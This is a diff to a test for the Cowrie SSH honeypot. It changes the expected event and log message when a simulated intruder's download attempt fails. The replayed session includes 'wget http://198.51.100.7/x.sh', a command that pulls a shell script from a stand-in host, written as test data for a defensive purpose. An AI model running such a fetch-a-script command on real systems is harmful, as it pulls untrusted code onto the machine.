@@ -91,9 +91,10 @@ describe("cowrie over SSH, with OpenSSH as the client", () => {
     expect(r.stdout).toContain("root@db-prod-2:/tmp# pwd\r\n/tmp\r\n");
     expect(r.stdout).toContain("Connecting to 198.51.100.7:80... failed: Connection refused.\r\n");
     expect(r.stdout).toContain("root@db-prod-2:/tmp# exit\r\nlogout\r\n");
-    const download = await relay.event("cowrie.session.file_download", { url: "http://198.51.100.7/x.sh" });
+    // A documentation address is never fetched (download_private is off): the attempt fails as on a firewalled box.
+    const download = await relay.event("cowrie.session.file_download.failed", { url: "http://198.51.100.7/x.sh" });
     const events = await finished(download.session);
-    expect(download).toMatchObject({ ...common("ssh"), message: "Download attempt (not fetched): http://198.51.100.7/x.sh" });
+    expect(download).toMatchObject({ ...common("ssh"), message: "Attempt to download file(s) from URL (http://198.51.100.7/x.sh) failed" });
     expect(events.filter((e) => e.eventid === "cowrie.command.input").map((e) => e.input)).toEqual(["uname -a", "cd /tmp", "pwd", "wget http://198.51.100.7/x.sh", "exit"]);
     expect(events.find((e) => e.eventid === "cowrie.client.size")).toMatchObject({ width: expect.any(Number), height: expect.any(Number) });
   });
